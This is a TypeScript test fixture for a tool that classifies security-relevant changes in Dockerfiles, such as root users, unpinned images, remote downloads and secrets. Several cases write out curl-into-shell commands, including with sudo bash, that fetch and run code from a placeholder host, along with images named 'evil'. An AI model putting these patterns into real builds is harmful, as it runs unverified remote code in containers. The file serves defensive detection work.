import type { Case, Expected } from "../harness.ts";

const DIGEST = `@sha256:${"a".repeat(64)}`;
const one = (name: string, before: string | null, after: string | null, ...expect: Case["expect"]): Case => ({
  kind: "docker",
  name,
  path: "Dockerfile",
  before,
  after,
  expect,
});
const said = (rel: string, direction: Expected["direction"], object?: string): Expected =>
  object === undefined ? { rel, direction } : { rel, direction, object };
/** A final stage that holds `rest`. */
const from = (rest: string, base = "node:20"): string => `FROM ${base}\n${rest}\n`;
const BUILD = "base of stage 0";

export const DOCKER: readonly Case[] = [
  one("the user is dropped", from("USER 1000"), from(""), said("runs-as", "widen")),
  one("a named user is dropped", from("USER app"), from(""), said("runs-as", "widen")),
  one("another named user", from("USER app"), from("USER web"), said("runs-as", "unknown")),
  one("a user is set", from(""), from("USER 1000:1000"), said("runs-as", "narrow")),
  one("root at last", from("USER 1000"), from("USER 1000\nUSER root"), said("runs-as", "widen")),
  one("root by a variable", from("USER 1000"), from("ARG U=0\nUSER $U"), said("runs-as", "widen")),
  one(
    "root by a variable from before the first stage",
    from("USER 1000"),
    `ARG U=0\n${from("ARG U\nUSER $U")}`,
    said("runs-as", "widen"),
  ),
  one("root for a while", from("USER 1000"), from("USER root\nRUN make\nUSER 1000")),
  one(
    "root in a stage that does not ship",
    "FROM a:1 AS b\nUSER 1000\nFROM node:20\nUSER 1000\n",
    "FROM a:1 AS b\nUSER root\nFROM node:20\nUSER 1000\n",
  ),
  one(
    "root in the stage that is built upon",
    "FROM a:1 AS b\nUSER 1000\nFROM b\n",
    "FROM a:1 AS b\nUSER root\nFROM b\n",
    said("runs-as", "widen"),
  ),
  one("another number", from("USER 1000"), from("USER 1001"), said("runs-as", "neutral")),

  one("a digest becomes a tag", from("", `node:20${DIGEST}`), from(""), said("image", "widen", BUILD)),
  one("a tag becomes a digest", from(""), from("", `node:20${DIGEST}`), said("image", "narrow", BUILD)),
  one("a tag goes", from(""), from("", "node"), said("image", "widen", BUILD)),
  one("another tag", from(""), from("", "node:22"), said("image", "unknown", BUILD)),
  one("another image", from(""), from("", "evil/node:20"), said("image", "widen", BUILD)),
  one("by a build argument", from(""), `ARG V=22\n${from("", "node:$V")}`, said("image", "unknown", BUILD)),
  one("by a build argument that changes nothing", from(""), `ARG V=20\n${from("", "node:\u0024{V}")}`),
  one(
    "by a build argument without a value",
    from(""),
    `ARG V\n${from("", "node:$V")}`,
    said("image", "unknown", BUILD),
  ),
  one("a platform", from(""), from("", "--platform=linux/amd64 node:20")),
  one(
    "a stage is no image",
    "FROM a:1 AS b\nFROM node:20\nCOPY --from=b / /\n",
    "FROM a:1 AS b\nFROM node:20\nCOPY --from=0 / /\n",
  ),
  one(
    "files of an image",
    from(""),
    from("COPY --from=evil/tools:1 /bin /bin"),
    said("image", "widen", "files of evil/tools"),
  ),
  one(
    "files mounted from an image",
    from(""),
    from("RUN --mount=from=evil/tools:1,target=/t make"),
    said("image", "widen", "files of evil/tools"),
  ),
  one("another builder", from(""), `# syntax=docker/dockerfile:1\n${from("")}`, said("image", "widen", "frontend")),

  one("a download", from(""), from("ADD https://x.example/a.tar /"), said("packs", "widen", "https://x.example/a.tar")),
  one(
    "a download by a build argument",
    from(""),
    from("ARG U=https://x.example/a.tar\nADD $U /"),
    said("packs", "widen", "https://x.example/a.tar"),
  ),
  one(
    "a download is held to a checksum",
    from("ADD https://x.example/a.tar /"),
    from(`ADD --checksum=sha256:${"b".repeat(64)} https://x.example/a.tar /`),
    said("packs", "narrow"),
  ),
  one("a file of one's own", from(""), from("ADD a.tar /")),
  one("a download into a shell", from(""), from("RUN curl -fsSL https://x.example/i | sh"), said("executes", "widen")),
  one(
    "over several lines",
    from(""),
    from("RUN curl -fsSL \\\n  # why\n  https://x.example/i \\\n  | sudo bash -s"),
    said("executes", "widen"),
  ),
  one("in a here-document", from(""), from("RUN <<EOF\ncurl https://x.example/i | sh\nEOF"), said("executes", "widen")),
  one(
    "in the form of a list",
    from(""),
    from('RUN ["sh", "-c", "curl https://x.example/i | sh"]'),
    said("executes", "widen"),
  ),
  one("a download into a file", from(""), from("RUN curl -o /f https://x.example/i")),
  one("a download into a shell, in a comment", from(""), from("# RUN curl https://x.example/i | sh\nRUN true")),
  one("a download into a shell, in a text", from(""), from("RUN echo 'curl https://x.example/i | sh'")),
  one(
    "a download into a shell is gone",
    from("RUN curl https://x.example/i | sh"),
    from(""),
    said("executes", "narrow"),
  ),

  one("a secret in a layer", from(""), from("ARG NPM_TOKEN"), said("reads-secret", "widen", "NPM_TOKEN")),
  one(
    "a secret is mounted",
    from(""),
    from("RUN --mount=type=secret,id=npm make"),
    said("reads-secret", "widen", "npm"),
  ),
  one("a build with every right", from(""), from("RUN --security=insecure make"), said("privileged", "widen")),
  one(
    "another index",
    from(""),
    from("RUN pip install --index-url https://pypi.example/simple x"),
    said("fetches-from", "widen", "https://pypi.example"),
  ),
  one("an image that is new", null, from("USER 1000"), said("image", "widen"), said("runs-as", "neutral")),
  one("an image that is gone", from("USER 0"), null, said("image", "narrow"), said("runs-as", "neutral")),
  { ...one("the same words elsewhere", null, from("USER root")), path: "build/app.conf" },
  {
    ...one("nothing to build from", from(""), "RUN true\n", said("image", "unknown"), said("runs-as", "unknown")),
    opaque: "docker/no-stage",
  },
];
